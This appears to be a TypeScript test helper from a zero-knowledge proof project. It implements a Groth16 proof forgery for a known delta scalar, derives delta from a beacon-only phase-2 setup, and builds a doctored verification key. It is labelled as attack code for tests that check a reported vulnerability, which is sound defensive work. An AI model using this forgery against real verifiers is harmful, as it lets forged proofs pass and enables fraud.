/**
 * The forgery of issue 18, as a function the tests run against zkfp's setups: whoever knows a
 * Groth16 key's delta scalar d proves ANY public inputs. snarkjs fixes gamma = the G2 generator, so
 * with A = alpha, B = beta, C = -d^-1 * vk_x (vk_x = IC0 + pre * IC1 + post * IC2) the check
 * e(A, B) = e(alpha, beta) * e(vk_x, gamma) * e(C, delta) holds, since e(vk_x, g2) * e(C, d * g2) = 1.
 * Also: `deltaOfFirstBeacon`, the delta a beacon-only phase 2 (zkfp's old default) gets from its
 * public beacon, and `keyWithKnownDelta`, a doctored vkey (the "my proof file brings its own key"
 * attack on a verifier that trusts the file). Attack code: tests only.
 */
import { getCurve, internals } from "../snarkjs.ts";

/* eslint-disable @typescript-eslint/no-explicit-any */
type Any = any;
type Vkey = Record<string, Any>;

/** delta of a zkey whose only phase-2 contribution is `snarkjs zkey beacon <hex> <exp>` (zkey_beacon.js). */
export async function deltaOfFirstBeacon(beaconHex: string, iterationsExp = 10): Promise<Any> {
  const { misc } = await internals();
  const curve = await getCurve();
  return curve.Fr.fromRng(await misc.rngFromBeaconParams(misc.hex2ByteArray(beaconHex), iterationsExp));
}

/** G2 point d * g2 in snarkjs' vkey encoding (strings, projective [x, y, 1]). */
export async function deltaG2(d: Any): Promise<string[][]> {
  const c = await getCurve();
  return c.G2.toObject(c.G2.toAffine(c.G2.timesFr(c.G2.g, d))).map((xs: bigint[]) => xs.map(String));
}

/** A Groth16 proof of [pre, post] for `vkey`, from its delta scalar alone. */
export async function forgeGroth16(
  vkey: Vkey,
  d: Any,
  pre: bigint,
  post: bigint,
): Promise<{ proof: Any; publicSignals: string[] }> {
  const c = await getCurve();
  const G1 = c.G1,
    Fr = c.Fr;
  const ic = (vkey.IC as string[][]).map((p) => G1.fromObject(p.map(BigInt)));
  const vkx = G1.add(G1.add(ic[0], G1.timesFr(ic[1], Fr.e(pre))), G1.timesFr(ic[2], Fr.e(post)));
  const C = G1.toAffine(G1.timesFr(vkx, Fr.neg(Fr.inv(d))));
  return {
    proof: {
      pi_a: vkey.vk_alpha_1,
      pi_b: vkey.vk_beta_2,
      pi_c: G1.toObject(C).map(String),
      protocol: "groth16",
      curve: "bn128",
    },
    publicSignals: [pre.toString(), post.toString()],
  };
}

/** `vkey` with delta replaced by d * g2 for a d the attacker picked (returns the doctored key and d). */
export async function keyWithKnownDelta(vkey: Vkey, seed = 7n): Promise<{ vkey: Vkey; d: Any }> {
  const c = await getCurve();
  const d = c.Fr.e(seed);
  return { vkey: { ...vkey, vk_delta_2: await deltaG2(d) }, d };
}
